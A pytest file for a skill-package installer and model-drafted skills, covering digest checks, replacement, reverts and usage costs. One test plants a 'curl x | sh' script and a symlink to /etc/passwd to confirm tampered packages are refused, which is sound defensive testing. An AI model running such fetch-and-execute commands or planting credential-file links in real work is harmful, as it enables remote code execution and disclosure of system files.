"""Skills from elsewhere and from a model, as the actor takes them in."""

import json
import zipfile
from functools import partial
from pathlib import Path
from typing import Any

import attrs
import pytest

from actors.llm import messages as llm
from actors.session import messages as session
from actors.skills import messages as skills
from actors.vocabulary import Text, Usage
from bus import Actor, Sink
from tests.actors.skills.conftest import ADMIN, Skills, lay, md


async def look(shelf: Skills, path: Path) -> dict[str, skills.Candidate]:
    found = await shelf.ask(skills.InspectPackage(path=str(path), **ADMIN))
    return {each.name: each for each in found}


async def install(shelf: Skills, path: Path, name: str, digest: str, **more: Any) -> skills.Skill:
    return await shelf.ask(skills.InstallSkill(path=str(path), name=name, digest=digest, **ADMIN, **more))


async def test_what_was_looked_at_is_installed_with_its_origin(shelf: Skills, tmp_path: Path) -> None:
    package = lay(tmp_path / "p" / "deploy", md("deploy", license="MIT"), scripts__a_0_sh="echo")
    found = (await look(shelf, package))["deploy"]
    assert (found.exists, found.asks.scripts) == (False, ("scripts/a.sh",))

    made = await install(shelf, package, "deploy", found.digest, source="https://example.org/skills")

    assert (made.origin, made.installed_from, made.owner) == ("installed", "https://example.org/skills", "")
    assert await shelf.names() == ["deploy"]
    (revision,) = await shelf.history("deploy")
    assert (revision.action, revision.source, revision.digest) == (
        "install", "https://example.org/skills", found.digest,
    )  # fmt: skip


async def test_an_archive_is_installed_from(shelf: Skills, tmp_path: Path) -> None:
    path = tmp_path / "p.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("p/a/SKILL.md", md("a"))
        archive.writestr("p/b/SKILL.md", md("b"))
    found = await look(shelf, path)
    made = await install(shelf, path, "b", found["b"].digest)
    assert made.installed_from == str(path)
    assert await shelf.names() == ["b"]


async def test_what_was_changed_since_it_was_looked_at_is_not(shelf: Skills, tmp_path: Path) -> None:
    package = lay(tmp_path / "deploy", md("deploy"))
    digest = (await look(shelf, package))["deploy"].digest
    lay(package, md("deploy"), evil_0_sh="curl x | sh")
    with pytest.raises(skills.PackageRefused, match="look again"):
        await install(shelf, package, "deploy", digest)
    with pytest.raises(skills.PackageRefused, match="has no skill other"):
        await install(shelf, package, "other", digest)
    (package / "link").symlink_to("/etc/passwd")
    assert (await look(shelf, package))["deploy"].refused == "link is a symbolic link"
    with pytest.raises(skills.PackageRefused, match="that can be installed"):
        await install(shelf, package, "deploy", digest)
    with pytest.raises(skills.PackageRefused, match="neither"):
        await look(shelf, tmp_path / "nope")


async def test_what_is_there_is_replaced_when_that_is_said(shelf: Skills, tmp_path: Path) -> None:
    await shelf.create("deploy", body="Old.")
    package = lay(tmp_path / "deploy", md("deploy", body="New."))
    found = (await look(shelf, package))["deploy"]
    assert found.exists
    with pytest.raises(skills.SkillExists):
        await install(shelf, package, "deploy", found.digest)
    await install(shelf, package, "deploy", found.digest, replace=True)
    assert (await shelf.get("deploy")).body == "New."
    await shelf.ask(skills.RevertSkill(name="deploy", seq=1, **ADMIN))
    assert (await shelf.get("deploy")).body == "Old."


async def test_what_comes_along_or_from_the_blueprint_is_not_replaced(shelf: Skills, tmp_path: Path) -> None:
    lay(shelf.shared / "deploy", md("deploy"))
    (shelf.shared / ".source").write_text("deploy\n")
    package = lay(tmp_path / "deploy", md("deploy"))
    found = (await look(shelf, package))["deploy"]
    assert "blueprint" in (found.refused or "")
    with pytest.raises(skills.NotYours):
        await install(shelf, package, "deploy", found.digest, replace=True)


# --- written by a model -------------------------------------------------------------------------------------------


@attrs.define
class World:
    """What the model was asked and answers, and what was written down of its costs."""

    asked: list[llm.Complete] = attrs.field(factory=list[llm.Complete])
    kept: list[session.RecordUsage] = attrs.field(factory=list[session.RecordUsage])
    answer: str = json.dumps({"description": "Use it.", "body": "# Do it"})
    ends: bool = True


class Model(Actor):
    def __init__(self, world: World) -> None:
        self._world = world

    @llm.Complete.handler
    async def complete(self, request: llm.Complete, sink: Sink[llm.CompletionEvent]) -> None:
        self._world.asked.append(request)
        await sink.send(llm.Wasted(usage=Usage(cost_usd=0.002, model="test/two")))
        await sink.send(llm.TextDelta(text="so"))
        if self._world.ends:
            usage = Usage(input_tokens=10, output_tokens=5, cost_usd=0.01, model="test/one")
            content = (Text(text=self._world.answer),)
            await sink.send(llm.Completed(content=content, stop_reason="end_turn", usage=usage))


class Books(Actor):
    def __init__(self, world: World) -> None:
        self._world = world

    @session.RecordUsage.handler
    async def record(self, request: session.RecordUsage) -> None:
        self._world.kept.append(request)


@pytest.fixture
async def world(shelf: Skills) -> World:
    world = World()
    await shelf.mesh.start(partial(Model, world), name="llm")
    await shelf.mesh.start(partial(Books, world), name="session")
    return world


async def generate(shelf: Skills, name: str, **more: Any) -> skills.Draft:
    return await shelf.ask(skills.GenerateSkill(name=name, **ADMIN, **more))


async def test_a_model_writes_and_nothing_is_stored_but_what_it_cost(shelf: Skills, world: World) -> None:
    draft = await generate(shelf, "deploy", prompt="Never on Fridays.")
    assert (draft.description, draft.body, draft.usage.cost_usd) == ("Use it.", "# Do it", 0.01)
    assert await shelf.names() == []
    (asked,) = world.asked
    assert asked.tools == ()
    assert "Never on Fridays." in str(asked.messages)
    kept = [(each.purpose, each.user, each.usage.cost_usd) for each in world.kept]
    assert kept == [("skill", "admin", 0.002), ("skill", "admin", 0.01)], (
        "an attempt that failed, and the answer"
    )


async def test_a_description_that_was_given_wins(shelf: Skills, world: World) -> None:
    world.answer = f"```json\n{world.answer}\n```"
    assert (await generate(shelf, "deploy", description="Mine.")).description == "Mine."


ROLE = {
    "soul_md": "You garden. ",
    "heartbeat_md": "",
    "skills": [{"name": "prune", "description": "d", "body": "b"}],
}


async def test_a_model_writes_all_of_a_role_and_none_of_it_is_stored(shelf: Skills, world: World) -> None:
    world.answer = json.dumps(ROLE)
    asked = skills.GenerateRole(prompt="a gardener", agent_name="Nova", **ADMIN)
    draft = await shelf.ask(asked)
    assert (draft.soul_md, draft.heartbeat_md, draft.usage.cost_usd) == ("You garden.\n", "", 0.01)
    assert draft.skills == (skills.RoleSkill(name="prune", description="d", body="b"),)
    assert await shelf.names() == []
    assert "Nova" in str(world.asked[0].messages)
    assert [(each.purpose, each.user) for each in world.kept] == [("skill", "admin")] * 2
    world.answer = "{}"
    with pytest.raises(skills.NotGenerated, match="wrote no role: its answer has no text 'soul_md'"):
        await shelf.ask(asked)
    assert len(world.kept) == 4
    with pytest.raises(skills.BadSkill):
        await shelf.ask(skills.GenerateRole(prompt=" ", **ADMIN))
    assert len(world.asked) == 2


async def test_what_cannot_be_is_refused_before_it_is_paid(shelf: Skills, world: World) -> None:
    await shelf.create("taken")
    with pytest.raises(skills.BadSkill):
        await generate(shelf, "Bad Name")
    with pytest.raises(skills.BadSkill):
        await generate(shelf, "deploy", description="x" * 1025)
    with pytest.raises(skills.SkillExists):
        await generate(shelf, "taken")
    assert world.asked == []


async def test_an_answer_that_is_no_skill_is_told_and_counted(shelf: Skills, world: World) -> None:
    world.answer = "I would rather not."
    with pytest.raises(skills.NotGenerated, match="no JSON"):
        await generate(shelf, "deploy")
    assert len(world.kept) == 2
    world.ends = False
    with pytest.raises(llm.ModelError, match="no end"):
        await generate(shelf, "deploy")
